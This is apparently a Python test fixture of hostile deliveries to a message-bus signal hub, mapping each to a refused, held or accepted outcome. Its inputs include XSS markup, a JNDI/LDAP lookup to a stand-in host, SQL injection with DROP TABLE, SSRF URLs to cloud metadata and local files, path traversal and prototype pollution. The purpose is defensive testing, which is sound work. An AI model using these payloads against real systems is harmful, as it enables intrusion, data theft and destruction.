"""Hostile deliveries by number: what someone may send through the bus, and what must come of it.

Doors N (the bus, 9 to 30) and J (JSON and CloudEvents, 36 to 86). Missing numbers are refused by
the server before the hub sees them, or concern several messages.
"""

from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from datetime import timedelta
from email.header import Header
from enum import Enum, auto
from typing import Any

from schemas.problems import Code
from tests.schemas.messages import (
    BINARY,
    DATA,
    ID,
    MESSAGE,
    NEXT_SCHEMA,
    OTHER_OIN,
    SCHEMA,
    STRUCTURED,
    SUBJECT,
    message,
    without,
    written,
)


class Outcome(Enum):
    """What comes of a delivery; held means that a person decides."""

    ACCEPTED = auto()
    REFUSED = auto()
    HELD = auto()


@dataclass(frozen=True, slots=True, kw_only=True)
class Case:
    """One delivery. `delay` is how long after its own `time` it came."""

    number: int
    name: str
    build: Callable[[], bytes] = message
    codes: frozenset[Code] = frozenset()
    outcome: Outcome = Outcome.REFUSED
    headers: Mapping[str, object] | None = None
    subject: str = SUBJECT
    delay: timedelta = timedelta(0)


def refused(number: int, name: str, data: bytes | None, *codes: Code, **rest: Any) -> Case:
    build = message if data is None else lambda: data
    return Case(number=number, name=name, build=build, codes=frozenset(codes), **rest)


def held(number: int, name: str, data: bytes, *codes: Code, **rest: Any) -> Case:
    return refused(number, name, data, *codes, outcome=Outcome.HELD, **rest)


def accepted(number: int, name: str, data: bytes | None = None, **rest: Any) -> Case:
    return refused(number, name, data, outcome=Outcome.ACCEPTED, **rest)


def content(**changes: object) -> bytes:
    """Write the ordinary message with something changed in its data."""
    return message(data={**DATA, **changes})


def spliced(name: str, raw: bytes) -> bytes:
    """Write the ordinary message with raw bytes as a value in its data."""
    return message(data={**DATA, name: "@@"}).replace(b'"@@"', raw)


def on_the_bus() -> Iterator[Case]:
    subjects = {
        9: ("literal *", "signals.v1.police.*"),
        10: ("literal >", "signals.v1.police.>"),
        11: ("NUL in the subject", "signals.v1.police.a\x00b"),
        12: ("foreign signs in the subject", "signals.v1.police.zoë"),
        13: ("subject of 5,000 bytes", "signals.v1.police." + "a" * 5_000),
        14: ("empty token", "signals.v1..police"),
        15: ("other case of the partner's name", "signals.v1.Police.proef"),
        16: ("unknown version", "signals.v9.police.proef"),
    }
    for number, (name, subject) in subjects.items():
        yield refused(number, name, None, Code.SUBJECT, subject=subject)
    yield accepted(20, "foreign signs in a header", headers={**STRUCTURED, "X-Eigen": "Zoë"})
    yield accepted(20, "Header object", headers={**STRUCTURED, "X-Eigen": Header("Zoë")})
    foreign = {**BINARY, "ce-id": Header("Zoë")}
    yield refused(20, "attribute", written(DATA), Code.CHARACTERS, Code.PATTERN, headers=foreign)
    yield refused(21, "NUL in a header", None, Code.CHARACTERS, headers={"X-Eigen": "a\x00"})
    long = {"Nats-Msg-Id": "x" * 1_024}
    yield refused(27, "Nats-Msg-Id of 1 KiB", None, Code.ENVELOPE, headers=long)
    yield refused(28, "no message id", without("id"), Code.MISSING, headers=STRUCTURED)
    for name in ("Nats-Stream-Source", "Nats-Request-Info"):
        yield accepted(29, f"forged {name}", headers={**STRUCTURED, name: "school"})
    yield accepted(30, "published without reply or header", headers=None)


def no_json() -> Iterator[Case]:
    yield refused(36, "empty body", b"", Code.NOT_JSON)
    yield refused(37, "no JSON", b"<signaal/>", Code.NOT_JSON)
    yield refused(38, "100,000 nested lists", b"[" * 100_000, Code.TOO_LARGE)
    deep = b"[" * 30_000 + b"]" * 30_000
    yield refused(38, "30,000 nested lists", spliced("referentie", deep), Code.TOO_LARGE)
    twice = message().replace(b'"id"', b'"id":"1","id"', 1)
    yield refused(39, "a name twice", twice, Code.DUPLICATE_KEY)
    yield refused(39, "deep", spliced("namen", b'[{"a":1,"a":1}]'), Code.DUPLICATE_KEY)
    for raw in (b"NaN", b"Infinity", b"-Infinity"):
        yield refused(40, raw.decode(), spliced("aantal", raw), Code.NOT_JSON)
    yield refused(41, "1e400", spliced("aantal", b"1e400"), Code.TOO_LARGE)
    yield refused(42, "2^64", spliced("aantal", b"18446744073709551616"), Code.TOO_LARGE)
    yield refused(43, "5,000 digits", spliced("aantal", b"9" * 5_000), Code.TOO_LARGE)
    half = spliced("omschrijving", rb'"\ud800"')
    yield refused(44, "half a surrogate pair", half, Code.CHARACTERS)
    yield refused(45, "NUL in a name", spliced("namen", rb'["A\u0000na"]'), Code.CHARACTERS)
    yield refused(46, "raw control character", spliced("namen", b'["A\x01"]'), Code.NOT_JSON)
    yield refused(47, "byte order mark", b"\xef\xbb\xbf" + message(), Code.CHARACTERS)
    yield refused(48, "UTF-16", message().decode().encode("utf-16"), Code.CHARACTERS)
    yield refused(48, "UTF-16 unmarked", message().decode().encode("utf-16-le"), Code.NOT_JSON)
    yield refused(49, "overlong UTF-8", spliced("namen", b'["\xc0\x80"]'), Code.CHARACTERS)
    yield refused(49, "no UTF-8", spliced("namen", b'["Zo\xeb"]'), Code.CHARACTERS)
    yield refused(50, "something after it", message() + b"{}", Code.NOT_JSON)


def other_shapes() -> Iterator[Case]:
    yield refused(51, "unknown field", content(eigen="x"), Code.UNKNOWN_FIELD)
    yield refused(51, "unknown attribute", message(eigen="x"), Code.UNKNOWN_FIELD)
    yield refused(52, "attribute missing", without("time"), Code.MISSING)
    bare = {name: value for name, value in DATA.items() if name != "referentie"}
    yield refused(52, "field missing", message(data=bare), Code.MISSING)
    newer = SCHEMA.replace("v2", "v99")
    yield held(53, "unknown version", message(dataschema=newer), Code.UNKNOWN_SCHEMA)
    yield accepted(54, "another version that is known", message(dataschema=NEXT_SCHEMA))
    older = SCHEMA.replace("v2", "v1")
    yield refused(54, "expired version", message(dataschema=older), Code.EXPIRED_SCHEMA)
    yield refused(55, "number as text", content(aantal="12"), Code.TYPE)
    yield refused(55, "truth as text", content(spoed="yes"), Code.TYPE)
    for raw in ("2026-11-23T10:00:00", "2026-11-23"):
        yield refused(56, f"no zone: {raw}", message(time=raw), Code.MOMENT)
    yield refused(57, "epoch as time", message(time=1_000_000_000_000), Code.TYPE)
    yield refused(57, "epoch as text", message(time="1000000000000"), Code.MOMENT)
    for raw in (
        "2026-02-30T10:00:00Z",
        "2026-11-23T24:00:00Z",
        "2026-11-23T10:00:60Z",
        "2026-11-23T10:00:00+25:00",
    ):
        yield refused(58, raw, message(time=raw), Code.MOMENT)
    for raw in ("0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00"):
        yield refused(59, raw, message(time=raw), Code.MOMENT)
    yield accepted(60, "ten minutes ahead", delay=timedelta(minutes=-10))
    yield held(60, "a day ahead", message(), Code.CLOCK, delay=timedelta(days=-1))
    yield held(60, "40 years old", message(), Code.TOO_OLD, delay=timedelta(days=40 * 365))


def persons() -> Iterator[Case]:
    yield held(61, "BSN with a wrong digit", content(bsn="999990018"), Code.NUMBER_INVALID)
    for raw in ("000000000", "111111110"):
        yield held(62, f"BSN {raw}", content(bsn=raw), Code.NUMBER_INVALID)
    yield refused(63, "BSN in Arabic digits", content(bsn="٩٩٩٩٩٠٠١٩"), Code.PATTERN)
    yield accepted(64, "BSN with dots", content(bsn="9999.90.019"))
    in_text = content(omschrijving="Zijn nummer is 999 990 019.")
    yield held(64, "BSN in free text", in_text, Code.NUMBER_IN_TEXT)
    yield accepted(65, "name decomposed and composed", content(namen=["Zoe\u0308", "Zo\u00eb"]))
    yield accepted(66, "Cyrillic letter in a name", content(namen=["\u0410na Demo"]))
    yield accepted(67, "text turned around", content(omschrijving="a\u202eb"))
    yield accepted(68, "no width", content(omschrijving="a\u200bb\ufeffc"))
    yield refused(69, "name of 10 MB", content(namen=["a" * 10_000_000]), Code.TOO_LARGE)
    yield refused(69, "1,000 persons", content(namen=["Ana"] * 1_000), Code.TOO_LARGE)


def texts() -> Iterator[Case]:
    kept = {
        70: ("markup", '<script>alert(1)</script><img src=x onerror="x()"><svg onload=x()>'),
        71: ("template", "{{7*7}} ${jndi:ldap://elders.example} {% raise %}"),
        72: ("link that runs", "javascript:alert(1)"),
        73: ("fake log line", "gewoon\r\n2026-11-23 INFO signaal gewist"),
        75: ("SQL", "' OR 1=1; DROP TABLE events; --"),
        83: ("slow pattern", "a" * 5_000 + "!" + "0 " * 4_000),
    }
    for number, (name, text) in kept.items():
        yield accepted(number, name, content(omschrijving=text))
    escapes = content(omschrijving="\x1b[2Jweg")
    yield refused(74, "terminal escapes", escapes, Code.CHARACTERS)
    yield refused(83, "slow id", message(id="a-" * 200 + "!"), Code.PATTERN)


def other_attributes() -> Iterator[Case]:
    for raw in (
        "http://169.254.169.254/latest/meta-data",
        "https://169.254.169.254/",
        "https://[::1]/",
        "https://localhost/",
        "https://nats.internal/",
        "https://u:p@localhost/",
        "https://bijlagen.example:8222/",
        "file:///etc/passwd",
        "gopher://bijlagen.example/",
    ):
        yield refused(76, raw, message(dataref=raw), Code.PATTERN)
    for raw in ("../../etc/passwd", "a/b", "x" * 300, "a b", "\u0430"):
        yield refused(77, raw[:20], message(id=raw), Code.PATTERN)
    other = message(source=f"urn:nld:oin:{OTHER_OIN}:systeem:x")
    yield held(78, "other sender", other, Code.WRONG_SENDER)
    yield refused(79, "signature", message(dssematerial="x"), Code.UNKNOWN_FIELD)
    yield held(80, "replay of another's", other, Code.WRONG_SENDER, headers=STRUCTURED)
    yield accepted(81, "gap in the sequence", message(sequence="2000"))
    yield refused(81, "sequence 0", message(sequence="0"), Code.PATTERN)
    yield accepted(82, "points at itself", content(verwijzing=[DATA["referentie"]]))
    yield accepted(82, "caused by itself", message(causationid=ID, correlationid=ID))
    many = {f"k{n}": n for n in range(100_000)}
    yield refused(84, "100,000 names", written(many), Code.TOO_LARGE)
    yield refused(
        84,
        "3,000 names",
        written(MESSAGE | dict.fromkeys(list(many)[:3_000], 1)),
        Code.UNKNOWN_FIELD,
    )
    for name, raw in {"HTML": "PGh0bWw+", "program": "TVqQAAMAAAA="}.items():
        attached = written({**MESSAGE, "data": None, "data_base64": raw})
        yield refused(85, name, attached, Code.ENVELOPE, Code.MISSING)
    yield refused(86, "__proto__", message(__proto__={"a": 1}), Code.ENVELOPE)
    yield refused(86, "constructor", message(constructor={"a": 1}), Code.UNKNOWN_FIELD)
    yield refused(86, "deep", content(__proto__={"admin": True}), Code.UNKNOWN_FIELD)


CASES = (
    *on_the_bus(),
    *no_json(),
    *other_shapes(),
    *persons(),
    *texts(),
    *other_attributes(),
)
